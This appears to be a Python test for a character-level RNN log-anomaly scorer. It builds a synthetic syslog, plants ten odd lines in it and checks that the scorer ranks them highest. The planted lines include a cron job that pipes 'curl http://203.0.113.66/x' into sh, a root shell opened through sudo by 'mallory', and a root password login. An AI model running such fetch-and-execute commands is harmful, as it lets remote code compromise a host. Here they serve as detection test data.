"""What scoring is for: the odd lines of a system log."""

import random

ORDINARY = [
    "sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2",
    "sshd[{pid}]: Connection closed by {ip} port {port} [preauth]",
    "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} by (uid=0)",
    "CRON[{pid}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
    "systemd[1]: Started Session {port} of user {user}.",
    "systemd[1]: Starting Daily apt download activities...",
    "kernel: [{pid}.{port}] eth0: link up, 1000 Mbps, full duplex",
    "dhclient[{pid}]: DHCPACK of {ip} from 10.0.0.1",
    "ntpd[{pid}]: adjusting clock frequency by 0.{port} ppm",
    "postfix/smtpd[{pid}]: connect from unknown[{ip}]",
    "nginx: {ip} GET /index.html 200 {port}",
    "rsyslogd: -- MARK --",
]
ODD = [
    "kernel: BUG: unable to handle page fault for address: ffffdead",
    "sshd[411]: Accepted password for root from 203.0.113.66 port 31337 ssh2",
    "systemd[1]: nginx.service: Main process exited, code=killed, status=11/SEGV",
    "kernel: Out of memory: Killed process 2311 (postgres)",
    "sudo: mallory : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
    "kernel: EXT4-fs error (device sda1): bad block bitmap checksum",
    "CRON[999]: (www-data) CMD (curl http://203.0.113.66/x | sh)",
    "passwd: password changed for root",
    "mdadm: Fail event detected on md device /dev/md0",
    "kernel: CPU3: Core temperature above threshold, cpu clock throttled",
]


def system_log(count, odd, seed):
    """So many lines, with the odd ones at places of their own."""
    rng, lines, now = random.Random(seed), [], 0
    places = dict(zip(rng.sample(range(count), len(odd)), odd, strict=True))
    for place in range(count):
        now += rng.randrange(1, 20)
        address = ".".join(str(rng.randrange(1, 255)) for _ in range(4))
        line = places.get(place) or rng.choice(ORDINARY).format(
            pid=rng.randrange(300, 32768),
            port=rng.randrange(1024, 65536),
            user=rng.choice(["alice", "bob", "carol", "deploy"]),
            ip=address,
        )
        lines.append(f"Nov {1 + now // 86400:2} {now // 3600 % 24:02}:{now // 60 % 60:02}:{now % 60:02} host {line}\n")
    return "".join(lines)


def test_odd_lines_come_out_on_top(charrnn, folder):
    """Though the model was trained on the log that has them, for a few seconds; and with blank lines in between."""
    log = system_log(2500, ODD, seed=1)
    (folder / "system.log").write_text(log)
    charrnn("train", "system.log", "--steps", 150, "--hidden", 64, "--layers", 1, "--quiet", "--val-fraction", 0)
    lines = log.splitlines(keepends=True)
    (folder / "system.log").write_text("".join("\n" * (i % 500 == 0) + line for i, line in enumerate(lines)))
    top = charrnn("score", "system.log", "--top", len(ODD)).out.decode().splitlines()[1:]
    assert {line.split(" host ")[-1] for line in top} == set(ODD)
